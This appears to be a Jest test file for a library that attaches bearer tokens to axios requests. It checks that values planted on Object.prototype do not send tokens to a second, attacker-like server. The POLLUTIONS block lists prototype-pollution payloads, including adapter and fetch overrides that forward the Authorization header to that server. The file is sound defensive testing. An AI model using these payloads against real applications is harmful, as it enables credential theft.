import { describe, expect, it } from '@jest/globals'
import { startApi } from '../axios/support/api-server.ts'
import { run, withChildren } from './support/child.ts'

withChildren()

/**
 * What an attacker may put on `Object.prototype`, for example through a JSON document that is merged into an object.
 * `theirs`: where the attacker wants to receive the token.
 */
const POLLUTIONS = `{
  proxy: { host: '127.0.0.1', port: Number(new URL(theirs).port), protocol: 'http' },
  socketPath: '/nowhere',
  baseURL: theirs,
  url: theirs,
  origins: [theirs],
  header: 'X-Stolen',
  headers: { common: { Authorization: 'Stolen' } },
  scheme: 'Stolen',
  refuses: () => true,
  allowInsecureHttp: true,
  allowAbsoluteUrls: false,
  evergreen: false,
  auth: { username: 'u', password: 'p' },
  adapter: async (config) => {
    await fetch(theirs, { headers: { Authorization: String(config.headers.Authorization) } })
    return { status: 200, data: '', headers: {}, config }
  },
  env: { fetch: (request) => fetch(theirs, { headers: request.headers }) },
  beforeRedirect: () => {},
  fetchOptions: { redirect: 'manual' },
  clock: {},
  maxWaitMs: 0,
  hasEnded: () => true,
  anomaly: () => { throw new Error('told') },
}`

describe.each(['http', 'fetch'] as const)(
  'given a member of Object.prototype with the name of an option (%s adapter)',
  (adapter) => {
    it('when it exists before attaching, or appears before a request or after one, then tokens go to the same servers (F163)', async () => {
      const [api, theirs] = [await startApi(), await startApi()]
      const child = run(`
      const theirs = ${JSON.stringify(theirs.baseUrl)}
      const source = { id: 'one', obtain: async () => ({ accessToken: 'token', accessLifetimeMs: 60_000 }) }
      const handMade = { peekAccessToken: () => undefined, getAccessToken: async () => 'token', replaceAccessToken: async () => 'token' }
      for (const [name, value] of Object.entries(${POLLUTIONS})) {
        // Refused: test/faults/pollution-alone.test.ts.
        if (name === 'socketPath' && '${adapter}' === 'fetch') continue
        for (const moment of ['before attaching', 'before a request', 'after one'])
          for (const tokens of [createTokenManager({ source }), handMade]) {
            const pollute = (now) => now === moment && (Object.prototype[name] = value)
            try {
              const instance = axios.create({ adapter: '${adapter}', baseURL: ${JSON.stringify(api.baseUrl)}, proxy: false })
              // A copy inherits from Object.prototype, unlike the config that axios makes.
              if (tokens !== handMade) instance.interceptors.request.use((config) => ({ ...config }))
              pollute('before attaching')
              attachBearer(instance, tokens)
              pollute('before a request')
              await instance.get('/1/' + name)
              pollute('after one')
              await instance.get('/2/' + name)
              await instance.get(theirs)
            } catch (error) {
              say(moment + ', ' + name + ': ' + error.message)
            } finally {
              delete Object.prototype[name]
            }
          }
      }
    `)
      expect([await child.ended, child.lines]).toEqual([0, []])
      const paths = adapter === 'http' ? 42 : 40
      expect(new Set(api.received.map(({ url }) => url)).size).toBe(paths)
      expect(api.bearers).toEqual(Array(paths * 3 * 2).fill('Bearer token'))
      expect([
        ...new Set(theirs.received.map(({ url, rawHeaders }) => `${url} ${rawHeaders.join().includes('token')}`)),
      ]).toEqual(['/ false'])
    })
  },
)
